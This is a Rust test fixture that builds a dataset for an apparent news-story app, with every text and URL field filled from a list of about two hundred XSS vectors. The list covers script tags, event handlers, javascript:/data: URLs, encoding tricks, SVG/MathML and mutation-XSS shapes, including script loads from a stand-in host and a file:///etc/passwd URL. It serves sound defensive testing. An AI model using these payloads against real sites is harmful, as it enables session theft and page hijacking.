//! A hostile dataset: valid by the validator's rules, but every text and URL
//! field holds an XSS vector.
//!
//! `VECTORS` are the classic ways into a page: script and style tags,
//! event-handler attributes, `javascript:`, `data:` and `vbscript:` URLs
//! with case, whitespace, tab, newline, control-character, entity and
//! percent-encoding tricks, SVG and MathML payloads, mutation-XSS shapes and
//! broken markup. Each one that could run does `__pwned=alert(1)||1`: it
//! opens an alert and sets the global `__pwned`, which the end-to-end test
//! watches for. Each one that could fetch asks for an address of the
//! documentation range (198.51.100.7), never the page's own origin.
//! [`dataset`] deals the vectors round-robin into every text and URL field.

use storyscope_core::model::{Attribution, DateSource, Method, Precision, Span};
use storyscope_core::{Block, Dataset, Day, Event, Person, Post, Quote, Story};

/// What a payload runs: an alert, and the sentinel global.
pub const PAYLOAD: &str = "__pwned=alert(1)||1";

/// The vectors, with `{js}` standing for [`PAYLOAD`]; see [`vectors`].
const VECTORS: &[&str] = &[
    // Script tags, whole, split, nested and disguised.
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src=//198.51.100.7/x.js></script>",
    "<script src=\"http://198.51.100.7/x.js\"></script>",
    "<script/x>{js}</script>",
    "<script ~~~>{js}</script ~~~>",
    "<script\ttype=\"text/javascript\">{js}</script>",
    "<script\n>{js}</script\n>",
    "<script type=module>import('http://198.51.100.7/x.js')</script>",
    "<script>fetch('http://198.51.100.7/x')</script>",
    "<script>eval('\\x61lert(1)');{js}</script>",
    "<script>alert`1`;{js}</script>",
    "<<script>{js}//<</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "\"><script>{js}</script>",
    "'><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style><script>{js}</script>",
    "</script><script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>",
    "<!--<script>-->{js}<!--</script>-->",
    "<script>/*</script><script>{js}//*/</script>",
    // Event handlers on everything.
    "<img src=x onerror={js}>",
    "<img src=\"x\" onerror=\"{js}\">",
    "<IMG SRC=x OnErRoR={js}>",
    "<img src=x onerror\t={js}>",
    "<img src=x onerror\n={js}>",
    "<img/src=x/onerror={js}>",
    "<img src onerror={js}>",
    "<img src=`x`onerror={js}>",
    "<img src=\"x` `<script>{js}</script>\"` `>",
    "<img \"\"\"><script>{js}</script>\">",
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg\tonload={js}>",
    "<svg\nonload={js}>",
    "<body onload={js}>",
    "<frameset onload={js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<keygen autofocus onfocus={js}>",
    "<xss id=x tabindex=1 onfocus={js}></xss>",
    "<video><source onerror={js}>",
    "<audio src=x onerror={js}>",
    "<video src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<x onclick={js}>click me</x>",
    "<a onmouseover={js}>hover</a>",
    "<div onpointerenter={js} style=position:fixed;inset:0>x</div>",
    "<isindex type=image src=1 onerror={js}>",
    "<object onerror={js}>",
    "<style onload={js}></style>",
    "<iframe onload={js}></iframe>",
    "<form><button formaction=javascript:{js}>x</button></form>",
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>",
    "<img src=x onerror=\"&#95;&#95;pwned=alert(1)||1\">",
    "<img src=x onerror=eval(atob('X19wd25lZD1hbGVydCgxKXx8MQ=='))>",
    "<img src=x onerror=eval(String.fromCharCode(95,95,112,119,110,101,100,61,49))>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    // javascript:, data: and vbscript: in attributes.
    "<a href=\"javascript:{js}\">click</a>",
    "<a href=\"  JaVaScRiPt:{js}\">x</a>",
    "<a href=javascript&colon;{js}>x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js}\">x</a>",
    "<a href=\"&#x6A;avascript&colon;{js}\">x</a>",
    "<a href=\"jav&#x09;ascript:{js}\">x</a>",
    "<a href=\"java&#13;script:{js}\">x</a>",
    "<a href=\"java\tscript:{js}\">x</a>",
    "<a href=\"javascript:void(0)\" onclick=\"{js}\">x</a>",
    "<a href=\"data:text/html,<script>{js}</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<iframe src=\"javascript:{js}\"></iframe>",
    "<iframe src=\"data:text/html,<script>{js}</script>\"></iframe>",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned=1;alert(1)</script>\"></iframe>",
    "<object data=\"javascript:{js}\"></object>",
    "<object data=\"data:text/html,<script>{js}</script>\"></object>",
    "<embed src=\"javascript:{js}\">",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<form action=\"javascript:{js}\"><button>x</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{js}\">",
    "<base href=\"javascript:{js}//\">",
    "<table background=\"javascript:{js}\">",
    "<img dynsrc=\"javascript:{js}\">",
    "<img lowsrc=\"javascript:{js}\">",
    "<bgsound src=\"javascript:{js}\">",
    "<br size=\"&{{js}}\">",
    "<div style=\"background:url(javascript:{js})\">x</div>",
    "<div style=\"width:expression({js})\">x</div>",
    // Style and requests to elsewhere.
    "<style>@import 'http://198.51.100.7/x.css';</style>",
    "<style>*{background:url(http://198.51.100.7/x.png)}</style>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=http://198.51.100.7/x.css>",
    "<link rel=prefetch href=http://198.51.100.7/x>",
    "<link rel=import href=http://198.51.100.7/x.html>",
    "<img src=http://198.51.100.7/x.png>",
    "<img srcset=\"http://198.51.100.7/x.png 1x\">",
    "<video poster=http://198.51.100.7/x.png></video>",
    "<input type=image src=http://198.51.100.7/x.png>",
    "<layer src=\"http://198.51.100.7/x.js\"></layer>",
    "<import implementation=\"http://198.51.100.7/x.htc\">",
    // SVG and MathML.
    "<svg><script>{js}</script></svg>",
    "<svg><script href=\"data:,{js}\"/></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=onload to={js} />",
    "<svg><a xlink:href=\"javascript:{js}\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:{js} /><a><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{js}'/></svg>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg><style>@import url(http://198.51.100.7/x.css)</style></svg>",
    "<svg><image href=http://198.51.100.7/x.png /></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
    "<math><a xlink:href=\"javascript:{js}\">x</a></math>",
    "<math href=\"javascript:{js}\">x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
    "<math><mi xlink:href=\"data:x,<script>{js}</script>\">x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={js} src>\">",
    // Raw-text and comment breakouts, broken markup.
    "<!--<img src=\"--><img src=x onerror={js}//\">",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<noembed><img title=\"</noembed><img src=x onerror={js}>\">",
    "<iframe><img title=\"</iframe><img src=x onerror={js}>\">",
    "<xmp><img title=\"</xmp><img src=x onerror={js}>\">",
    "<plaintext><img src=x onerror={js}>",
    "<template><img src=x onerror={js}></template>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<xml><i><b>&lt;img src=1 onerror={js}&gt;</b></i></xml>",
    "<img src=\"x` onerror={js}>",
    "<img src=x onerror={js}",
    "<div><p><b><i>unclosed",
    "</div></main></body></html><script>{js}</script>",
    // Encoded forms that must stay text.
    "%3Cscript%3E{js}%3C%2Fscript%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "{{constructor.constructor('{js}')()}}",
    "${{js}}",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{js}//'>",
    // URLs: javascript:, data:, vbscript: and other schemes, disguised.
    "javascript:{js}",
    "JAVASCRIPT:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "\u{1}\u{2}javascript:{js}",
    "\u{0}javascript:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "java\rscript:{js}",
    "j\ta\tv\ta\ts\tc\tr\ti\tp\tt:{js}",
    "javas\u{0}cript:{js}",
    "&#106;avascript:{js}",
    "&#x6A;&#x61;vascript:{js}",
    "&#0000106avascript:{js}",
    "javascript&colon;{js}",
    "javascript&#58;{js}",
    "javascript&#x3A;{js}",
    "java&Tab;script:{js}",
    "java&NewLine;script:{js}",
    "javascript%3A{js}",
    "java%09script:{js}",
    "java%0ascript:{js}",
    "%6A%61%76%61%73%63%72%69%70%74%3A{js}",
    "javascript://%0A{js}",
    "javascript://comment%0d%0a{js}",
    "javascript:https://example.com",
    "\u{feff}javascript:{js}",
    "\u{a0}javascript:{js}",
    "\u{2028}javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>{js}</script>",
    " data:text/html,<script>{js}</script>",
    "d\tata:text/html,<script>{js}</script>",
    "data:image/svg+xml,<svg onload={js}>",
    "data:application/javascript,{js}",
    "&#100;ata:text/html,<script>{js}</script>",
    "data%3Atext/html,<script>{js}</script>",
    "vbscript:msgbox(1)",
    "VBSCRIPT:msgbox(1)",
    "vb\tscript:msgbox(1)",
    "&#118;bscript:msgbox(1)",
    "livescript:{js}",
    "mocha:{js}",
    "x-javascript:{js}",
    "file:///etc/passwd",
    "blob:http://127.0.0.1/x",
    "filesystem:http://127.0.0.1/temporary/x",
    "about:blank",
    "intent://x#Intent;scheme=javascript:{js};end",
    "ws://198.51.100.7/",
    "ftp://198.51.100.7/",
    "//198.51.100.7/x",
    "\\\\198.51.100.7\\x",
    "http:198.51.100.7",
    "https:\\\\198.51.100.7",
    "http://",
    "https://example.com\\@198.51.100.7",
    "http://example.com/\" onmouseover=\"{js}",
    // http(s) links that carry markup: they may become links, but only as
    // the DOM attribute they are, never as markup.
    "https://example.com/\"><script>{js}</script>",
    "https://example.com/?q=<svg/onload={js}>",
    "HTTPS://EXAMPLE.COM/'><img/src=x/onerror={js}>",
];

/// The vectors with their payload filled in, all distinct.
pub fn vectors() -> Vec<String> {
    VECTORS.iter().map(|v| v.replace("{js}", PAYLOAD)).collect()
}

/// Deals `vectors` round-robin, each at least once before any repeats.
struct Dealer<'a> {
    vectors: &'a [String],
    next: usize,
}

impl Dealer<'_> {
    fn take(&mut self) -> String {
        let v = self.vectors[self.next % self.vectors.len()].clone();
        self.next += 1;
        v
    }
}

/// How many stories the dataset has.
pub const STORIES: usize = 21;

/// The id of story `i`.
pub fn story_id(i: usize) -> String {
    format!("s{i:02}")
}

/// The id of person `i`.
pub fn person_id(i: usize) -> String {
    format!("p{i}")
}

/// A dataset of [`STORIES`] stories, 6 people and their quotes, posts and
/// events, every text and URL field a vector. Ids and dates are sound, so
/// it loads: the URLs that are not http(s) give warnings only.
pub fn dataset(vectors: &[String]) -> Dataset {
    // Text fields and URL fields each go through every vector.
    let mut text = Dealer { vectors, next: 0 };
    let mut urls = Dealer {
        vectors,
        next: vectors.len() / 2,
    };
    let people_count = 6;
    let mut dataset = Dataset::new();
    for i in 0..people_count {
        dataset.people.push(Person {
            id: person_id(i),
            // A plain name first, so the person filter can find them.
            name: format!("Person{i} {}", text.take()),
            aliases: vec![text.take(), text.take()],
            descriptors: vec![text.take(), text.take()],
            handles: vec![text.take()],
        });
    }
    for s in 0..STORIES {
        let id = story_id(s);
        let date: Day = format!("2021-11-{:02}", s + 1).parse().expect("a date");
        let lead = text.take();
        let paragraph = format!("Lead: {lead} (end)");
        let mut body = vec![
            Block::Heading { text: text.take() },
            Block::Paragraph { text: paragraph },
            Block::Paragraph { text: text.take() },
        ];
        let posts_per_story = 10;
        for p in 0..posts_per_story {
            let post_id = format!("{id}-p{p}");
            body.push(Block::Post {
                post: post_id.clone(),
                text: text.take(),
            });
            dataset.posts.push(Post {
                id: post_id,
                story: id.clone(),
                platform: if p % 3 == 0 {
                    "twitter".into()
                } else {
                    text.take()
                },
                author: Some(text.take()),
                handle: Some(text.take()),
                date: Some(date),
                text: text.take(),
                url: Some(urls.take()),
                people: vec![person_id((s + p) % people_count)],
                block: Some(body.len() - 1),
            });
        }
        for q in 0..3 {
            let (quote_text, span) = if q == 0 {
                let start = "Lead: ".len();
                (
                    lead.clone(),
                    Some(Span {
                        block: 1,
                        start,
                        end: start + lead.len(),
                    }),
                )
            } else {
                (text.take(), None)
            };
            dataset.quotes.push(Quote {
                id: format!("{id}-q{q}"),
                story: id.clone(),
                speaker: (q != 2).then(|| person_id((s + q) % people_count)),
                text: quote_text,
                date: Some(date),
                date_source: DateSource::Text,
                via: Some(text.take()),
                span,
                continued: Vec::new(),
                // The cue's words are shown too: the text of a cue is a
                // vector like any other.
                attribution: Some(Attribution {
                    method: [Method::Explicit, Method::Pronoun, Method::Continuation][q % 3],
                    cue: text.take(),
                    span: None,
                }),
            });
        }
        for e in 0..2 {
            dataset.events.push(Event {
                id: format!("{id}-e{e}"),
                story: id.clone(),
                date,
                precision: Precision::Day,
                text: text.take(),
                block: Some(2),
            });
        }
        dataset.stories.push(Story {
            id,
            date,
            precision: Precision::Day,
            title: text.take(),
            people: vec![
                person_id(s % people_count),
                person_id((s + 1) % people_count),
            ],
            sources: vec![text.take(), text.take()],
            origin: Some(text.take()),
            body,
        });
    }
    dataset
}
